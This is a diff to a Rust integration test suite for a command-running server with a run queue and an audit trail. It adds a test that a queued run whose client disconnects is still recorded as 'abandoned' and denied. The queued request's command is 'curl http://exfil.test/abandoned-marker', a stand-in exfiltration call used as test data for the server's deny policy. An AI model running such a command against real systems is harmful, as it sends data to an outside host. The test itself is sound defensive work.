@@ -414,9 +414,10 @@ fn streaming_sends_output_while_the_command_runs() {
     server.stop();
 }
 
-#[test]
-fn past_the_queue_the_server_answers_429_with_retry_after() {
-    let mut server = Server::start(&[
+/// A server with one run slot and one place in its queue, and a runtime for
+/// concurrent requests to it.
+fn one_slot_one_queue() -> (Server, tokio::runtime::Runtime) {
+    let server = Server::start(&[
         "--tokens",
         "tokens.toml",
         "--concurrency",
@@ -429,14 +430,33 @@ fn past_the_queue_the_server_answers_429_with_retry_after() {
         .enable_all()
         .build()
         .unwrap();
+    (server, rt)
+}
+
+/// Waits (up to 10 s) until `/healthz` reports `value` under `key`.
+async fn until_health(sock: &std::path::Path, key: &str, value: u64) {
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    loop {
+        let health = request(Target::Unix(sock), "GET", "/healthz", None, None)
+            .await
+            .json();
+        if health[key] == value {
+            return;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "/healthz never said {key} = {value}: {health}"
+        );
+        tokio::time::sleep(Duration::from_millis(10)).await;
+    }
+}
+
+#[test]
+fn past_the_queue_the_server_answers_429_with_retry_after() {
+    let (mut server, rt) = one_slot_one_queue();
     rt.block_on(async {
         let sock = server.socket.clone();
         let slow = r#"{"command":"sleep 2"}"#;
-        let health = |sock: std::path::PathBuf| async move {
-            request(Target::Unix(&sock), "GET", "/healthz", None, None)
-                .await
-                .json()
-        };
         let first = tokio::spawn({
             let sock = sock.clone();
             async move {
@@ -450,9 +470,7 @@ fn past_the_queue_the_server_answers_429_with_retry_after() {
                 .await
             }
         });
-        while health(sock.clone()).await["running"] != 1 {
-            tokio::time::sleep(Duration::from_millis(10)).await;
-        }
+        until_health(&sock, "running", 1).await;
         let second = tokio::spawn({
             let sock = sock.clone();
             async move {
@@ -466,9 +484,7 @@ fn past_the_queue_the_server_answers_429_with_retry_after() {
                 .await
             }
         });
-        while health(sock.clone()).await["queued"] != 1 {
-            tokio::time::sleep(Duration::from_millis(10)).await;
-        }
+        until_health(&sock, "queued", 1).await;
         let third = request(
             Target::Unix(&sock),
             "POST",
@@ -503,6 +519,77 @@ fn past_the_queue_the_server_answers_429_with_retry_after() {
         );
         assert!(text.contains("airlock_queue_depth 0"), "{text}");
     });
+    server.stop();
+}
+
+/// A client that leaves while its run waits in the queue: the request never
+/// runs, and its decision (a denial here) is still on record, as
+/// `abandoned`. Before, nothing of it reached the audit trail.
+#[test]
+fn a_run_abandoned_in_the_queue_is_on_record() {
+    let (mut server, rt) = one_slot_one_queue();
+    rt.block_on(async {
+        let sock = server.socket.clone();
+        let first = tokio::spawn({
+            let sock = sock.clone();
+            async move {
+                let body = r#"{"command":"sleep 2"}"#;
+                request(
+                    Target::Unix(&sock),
+                    "POST",
+                    "/v1/run",
+                    Some(TOKEN_A),
+                    Some(body),
+                )
+                .await
+            }
+        });
+        until_health(&sock, "running", 1).await;
+        let queued = tokio::spawn({
+            let sock = sock.clone();
+            async move {
+                let body = r#"{"command":"curl http://exfil.test/abandoned-marker"}"#;
+                request(
+                    Target::Unix(&sock),
+                    "POST",
+                    "/v1/run",
+                    Some(TOKEN_A),
+                    Some(body),
+                )
+                .await
+            }
+        });
+        until_health(&sock, "queued", 1).await;
+        // The client goes away: its connection closes.
+        queued.abort();
+        let _ = queued.await;
+        until_health(&sock, "queued", 0).await;
+        assert_eq!(first.await.unwrap().json()["outcome"]["exit_code"], 0);
+    });
+    let deadline = std::time::Instant::now() + Duration::from_secs(5);
+    let abandoned = loop {
+        let found: Vec<_> = audit_records(&server.state())
+            .into_iter()
+            .filter(|r| r.to_string().contains("abandoned-marker"))
+            .collect();
+        if !found.is_empty() || std::time::Instant::now() > deadline {
+            break found;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    assert_eq!(abandoned.len(), 1, "{abandoned:?}");
+    let record = abandoned[0].to_string();
+    assert!(record.contains("\"disposition\":\"abandoned\""), "{record}");
+    assert!(record.contains("\"decision\":\"deny\""), "{record}");
+    let rid = &abandoned[0]["request_id"];
+    let of_it = audit_records(&server.state())
+        .into_iter()
+        .filter(|r| r["request_id"] == *rid)
+        .count();
+    assert_eq!(
+        of_it, 1,
+        "something besides the decision was recorded for {rid}"
+    );
     server.stop();
 }
 
